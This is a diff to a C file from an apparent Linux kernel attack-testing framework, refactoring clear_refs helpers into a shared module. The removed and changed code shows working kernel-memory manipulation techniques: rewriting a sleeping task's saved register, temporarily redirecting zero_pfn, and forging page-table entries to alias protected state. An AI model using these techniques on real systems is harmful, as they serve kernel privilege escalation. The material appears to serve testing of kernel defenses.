@@ -5,129 +5,23 @@
  * protection, by an entry with the key of that, as the kernel may have. The accessed bit
  * is cleared there.
  */
-#include <fcntl.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
-#include <sys/time.h>
-#include <sys/uio.h>
-#include <sys/wait.h>
 #include <unistd.h>
 
 #include "addresses.h"
 #include "attack.h"
 #include "chunk.h"
+#include "clear_refs.h"
 #include "direct_map.h"
 #include "list.h"
 #include "objects.h"
-#include "pt_regs.h"
 
 #ifdef __x86_64__
 #define SPARE_PART	0x55
 #define TABLES_PART	0x56
-#define OWN_PART	0x5a
 #define TABLES		1500
-#define HELPER_CPU	1
-#define LATER		400000	/* microseconds */
-#define WAITS		"queued_spin_lock_slowpath"
-#define WAITS_LENGTH	0x300
-#define TABLE_LOCK	40
-#define FRAME_R15	0
 #define KEY_OF_STATE	(1UL << 59)
-
-static struct {
-	volatile bool ready;
-	volatile unsigned int asked, done;
-	volatile uint64_t lock, place;
-} *shared;
-
-static pid_t child;
-
-/* ---- who clears accessed bits ---- */
-
-static void clear_refs_for_ever(void)
-{
-	volatile char *own = mmap((void *)user_room(OWN_PART), PAGE_SIZE, PROT_READ | PROT_WRITE,
-				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
-	int fd = open("/proc/self/clear_refs", O_WRONLY);
-	const struct itimerval once = { { 0, 0 }, { 0, LATER } };
-	struct slot slot;
-
-	stay_on_cpu(HELPER_CPU);
-	heed_alarms();
-	own[0] = 1;
-	if (fd < 0 || kwalk((uint64_t)own, LEVEL_PTE, 0, &slot))
-		_exit(1);
-	shared->place = slot.slot;
-	shared->lock = page_of(slot.slot) + TABLE_LOCK;
-	shared->ready = true;
-	for (;;) {
-		usleep(1000);
-		if (shared->done == shared->asked)
-			continue;
-		own[0] = 1;
-		setitimer(ITIMER_REAL, &once, NULL);
-		(void)!write(fd, "1", 1);
-		shared->done++;
-	}
-}
-
-static bool start_child(void)
-{
-	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
-	child = fork();
-	if (!child)
-		clear_refs_for_ever();
-	while (!shared->ready)
-		if (waitpid(child, NULL, WNOHANG))
-			return false;
-	return true;
-}
-
-struct aim {
-	uint64_t place, at;
-	int changed;
-	bool stays;
-};
-
-static void change_frame(void *data, uint64_t at, const uint64_t *frame)
-{
-	struct aim *aim = data;
-
-	if (frame[FRAME_R15] != shared->place)
-		return;
-	kwrite64(at + FRAME_R15 * sizeof(*frame), aim->place);
-	aim->at = at;
-	aim->changed++;
-}
-
-/* The child waits for the lock of its table, and its timer for that of its signals. */
-static int clear_at(uint64_t place)
-{
-	struct aim aim = { place, 0, 0, false };
-	uint64_t lock, function = ksymbol(WAITS);
-	struct task task;
-	int i;
-
-	if (!function || ktask(child, &task))
-		return -1;
-	lock = find_signal_lock(&task);
-	if (!lock)
-		return -2;
-	set_lock(shared->lock, true);
-	shared->asked++;
-	usleep(LATER / 4);
-	set_lock(lock, true);
-	usleep(LATER * 2);
-	find_frames(&task, function, WAITS_LENGTH, change_frame, &aim);
-	usleep(LATER / 4);
-	aim.stays = kread64(aim.at) == aim.place;
-	set_lock(lock, false);
-	usleep(LATER / 4);
-	set_lock(shared->lock, false);
-	for (i = 0; i < 200 && shared->done != shared->asked; i++)
-		usleep(5000);
-	return aim.stays ? aim.changed : -3;
-}
 
 /* ---- an address of the direct map, as direct_map.c has it ---- */
 
@@ -155,48 +49,9 @@ static bool empty_address(struct chunk *chunk, volatile char *spare, uint64_t en
 	return done;
 }
 
-/* A fault that reads maps the zero page there, whose number is the table's. */
-static bool lead_address_to(const struct chunk *chunk, uint64_t phys, uint64_t entry)
-{
-	uint64_t at = direct_address(chunk), zero = ksymbol("zero_pfn"), old = kread64(zero), vma;
-	char byte;
-	struct iovec to = { &byte, 1 }, from = { (void *)at, 1 };
-	struct slot slot;
-
-	vma = forge_vma(chunk->at, at, PTE_KERNEL_RW | KEY_OF_STATE);
-	if (!zero || !vma)
-		return false;
-	kwrite64(entry, vma);
-	kwrite64(zero, phys / PAGE_SIZE);
-	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
-	kwrite64(zero, old);
-	kwrite64(entry, 0);
-	return !kwalk(at, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
-}
-
 /* ---- state ---- */
 
 #define STATE	2
-#define WORDS	512
-
-/* It must look like an entry that is present, of one of the first pages. */
-static bool is_usable(uint64_t seen)
-{
-	return (seen & PTE_PRESENT) && (seen & PTE_ACCESSED) && !(seen & 1 << 9) && seen >> 28 == 0;
-}
-
-static uint64_t find_in(uint64_t page)
-{
-	uint64_t words[WORDS];
-	int i;
-
-	if (kread(page, words, sizeof(words)))
-		return 0;
-	for (i = 0; i < WORDS; i++)
-		if (is_usable(words[i]))
-			return page + i * sizeof(*words);
-	return 0;
-}
 
 static uint64_t find_word_of_state(void)
 {
@@ -207,7 +62,7 @@ static uint64_t find_word_of_state(void)
 		if (pfn % sizeof(frames) == 0 && kread(frame_at(pfn), frames, sizeof(frames)))
 			return 0;
 		if (frames[pfn % sizeof(frames)] == STATE)
-			found = find_in(direct_map_base() + pfn * PAGE_SIZE);
+			found = clear_refs_word(direct_map_base() + pfn * PAGE_SIZE);
 	}
 	return found;
 }
@@ -244,7 +99,7 @@ enum outcome state_alias(void)
 		return user_pte();
 	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
 		return skipped("needs a second CPU");
-	if (!start_child())
+	if (!clear_refs_start())
 		return broken("no process that clears accessed bits");
 	stay_on_cpu(0);
 	base = sparse_region(user_room(TABLES_PART), TABLES, PROT_READ);
@@ -268,9 +123,10 @@ enum outcome state_alias(void)
 		return broken("no room for a mapping");
 	if (!empty_address(&chunk[1], spare + PAGE_SIZE, entry, task.mm))
 		return lost("the address of the direct map is not empty");
-	if (!lead_address_to(&chunk[1], (word & -PAGE_SIZE) - direct_map_base(), entry))
+	if (!map_address(chunk[1].at, direct_address(&chunk[1]), (word & -PAGE_SIZE) - direct_map_base(),
+			 PTE_KERNEL_RW | KEY_OF_STATE))
 		return lost("the address of the direct map leads to no state");
-	changed = clear_at(direct_address(&chunk[1]) + word % PAGE_SIZE);
+	changed = clear_refs_at(direct_address(&chunk[1]) + word % PAGE_SIZE);
 	after = kread64(word);
 	if (changed <= 0)
 		return broken("nothing waited (%d)", changed);
